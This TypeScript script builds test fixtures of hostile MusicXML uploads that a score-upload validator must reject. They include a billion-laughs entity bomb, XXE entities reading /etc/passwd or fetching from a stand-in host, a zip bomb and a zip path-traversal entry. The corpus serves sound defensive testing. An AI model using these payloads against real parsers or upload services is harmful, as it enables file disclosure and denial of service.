/**
 * Hostile upload corpus: every file a score upload must refuse, with the ScoreError code it must give.
 * `hostileCorpus()` builds them in memory (tests use it); running this script writes them into
 * fixtures/hostile/ so upload tests can send real files. Large cases stay small on disk (.mxl).
 *
 *   npx tsx scripts/make-hostile.ts
 */
import fs from "node:fs";
import path from "node:path";
import { strToU8, zipSync } from "fflate";
import type { ScoreErrorCode } from "../lib/score/errors";

export interface HostileCase {
  readonly file: string;
  readonly bytes: Uint8Array;
  readonly code: ScoreErrorCode;
  /** Only built in memory (too big to keep in the repository even compressed). */
  readonly memoryOnly?: boolean;
}

const head = '<?xml version="1.0" encoding="UTF-8"?>\n';
const partList = '<part-list><score-part id="P1"><part-name>Piano</part-name></score-part></part-list>';
const score = (measures: string) => `${head}<score-partwise version="4.0">${partList}<part id="P1">${measures}</part></score-partwise>`;
const oneBar = (attributes: string, notes: string) => score(`<measure number="1"><attributes>${attributes}</attributes>${notes}</measure>`);
const noteWith = (duration: string) => `<note><pitch><step>C</step><octave>4</octave></pitch>${duration}<type>whole</type></note>`;
const container = '<?xml version="1.0" encoding="UTF-8"?><container><rootfiles><rootfile full-path="score.musicxml" media-type="application/vnd.recordare.musicxml+xml"/></rootfiles></container>';
const mxl = (files: Record<string, Uint8Array>) =>
  zipSync({ mimetype: [strToU8("application/vnd.recordare.musicxml"), { level: 0 }], ...files }, { level: 9 });
const text = (s: string) => strToU8(s);

/** 100,000 empty measures: a valid-looking file far past the measure cap. */
export function emptyMeasures(count = 100_000): string {
  const bars: string[] = ['<measure number="1"><attributes><divisions>1</divisions></attributes></measure>'];
  for (let i = 2; i <= count; i++) bars.push(`<measure number="${i}"/>`);
  return score(bars.join(""));
}

/**
 * Every hostile case with the error code it must give.
 *
 * @example
 * hostileCorpus().find((c) => c.file === "billion-laughs.xml")?.code; // "entity-nested"
 */
export function hostileCorpus(): HostileCase[] {
  const lol = ['<!ENTITY lol "lol">'];
  for (let i = 1; i <= 9; i++) lol.push(`<!ENTITY lol${i} "${`&lol${i === 1 ? "" : i - 1};`.repeat(10)}">`);
  const big = "x".repeat(16 * 1024);
  const goodScore = text(oneBar("<divisions>1</divisions>", noteWith("<duration>4</duration>")));
  const manyEntries: Record<string, Uint8Array> = { "META-INF/container.xml": text(container), "score.musicxml": goodScore };
  for (let i = 0; i < 300; i++) manyEntries[`extra/${i}.txt`] = text("x");
  return [
    { file: "billion-laughs.xml", code: "entity-nested", bytes: text(`${head}<!DOCTYPE score-partwise [${lol.join("")}]><score-partwise>&lol9;</score-partwise>`) },
    { file: "large-entity.xml", code: "entity-internal", bytes: text(`${head}<!DOCTYPE score-partwise [<!ENTITY big "${big}">]><score-partwise>${"&big;".repeat(3000)}</score-partwise>`) },
    { file: "external-entity-file.xml", code: "entity-external", bytes: text(`${head}<!DOCTYPE score-partwise [<!ENTITY secret SYSTEM "file:///etc/passwd">]><score-partwise>&secret;</score-partwise>`) },
    { file: "external-entity-url.xml", code: "entity-external", bytes: text(`${head}<!DOCTYPE score-partwise [<!ENTITY remote SYSTEM "http://example.invalid/score.xml">]><score-partwise>&remote;</score-partwise>`) },
    { file: "parameter-entity.xml", code: "entity-parameter", bytes: text(`${head}<!DOCTYPE score-partwise [<!ENTITY % dtd SYSTEM "http://example.invalid/evil.dtd"> %dtd;]><score-partwise/>`) },
    { file: "doctype-subset.xml", code: "doctype-subset", bytes: text(`${head}<!DOCTYPE score-partwise [<!ELEMENT score-partwise ANY>]><score-partwise/>`) },
    { file: "undefined-entity.xml", code: "xml-malformed", bytes: text(oneBar("<divisions>1</divisions>", "&nowhere;")) },
    { file: "zip-bomb.mxl", code: "zip-bomb", bytes: mxl({ "META-INF/container.xml": text(container), "score.musicxml": new Uint8Array(16 * 1024 * 1024).fill(0x20) }) },
    { file: "zip-traversal.mxl", code: "zip-path", bytes: mxl({ "META-INF/container.xml": text(container), "../score.musicxml": goodScore }) },
    { file: "zip-no-container.mxl", code: "zip-no-container", bytes: mxl({ "score.musicxml": goodScore }) },
    { file: "zip-many-entries.mxl", code: "zip-entries", bytes: mxl(manyEntries) },
    { file: "zip-truncated.mxl", code: "zip-corrupt", bytes: mxl({ "META-INF/container.xml": text(container), "score.musicxml": goodScore }).slice(0, 120) },
    { file: "truncated.xml", code: "xml-malformed", bytes: goodScore.slice(0, goodScore.length - 40) },
    { file: "not-musicxml.xml", code: "not-musicxml", bytes: text(`${head}<html><body><p>Not a score</p></body></html>`) },
    { file: "timewise.xml", code: "timewise", bytes: text(`${head}<score-timewise version="4.0">${partList}<measure number="1"><part id="P1"/></measure></score-timewise>`) },
    { file: "negative-duration.xml", code: "bad-duration", bytes: text(oneBar("<divisions>1</divisions>", noteWith("<duration>-4</duration>"))) },
    { file: "zero-duration.xml", code: "bad-duration", bytes: text(oneBar("<divisions>1</divisions>", noteWith("<duration>0</duration>"))) },
    { file: "missing-duration.xml", code: "missing-duration", bytes: text(oneBar("<divisions>1</divisions>", noteWith(""))) },
    { file: "missing-divisions.xml", code: "missing-divisions", bytes: text(oneBar("", noteWith("<duration>4</duration>"))) },
    { file: "empty-measures.mxl", code: "too-many-measures", bytes: mxl({ "META-INF/container.xml": text(container), "score.musicxml": text(emptyMeasures()) }) },
    { file: "too-large.xml", code: "too-large", memoryOnly: true, bytes: text(`${head}<score-partwise>${" ".repeat(11 * 1024 * 1024)}</score-partwise>`) },
  ];
}

function main(): void {
  const dir = path.resolve(__dirname, "../fixtures/hostile");
  fs.mkdirSync(dir, { recursive: true });
  for (const c of hostileCorpus()) {
    if (c.memoryOnly) continue;
    fs.writeFileSync(path.join(dir, c.file), c.bytes);
    console.log(`${c.file.padEnd(28)} ${String(c.bytes.length).padStart(8)} bytes  → ${c.code}`);
  }
}

if (process.argv[1] && path.resolve(process.argv[1]) === path.resolve(__filename)) main();
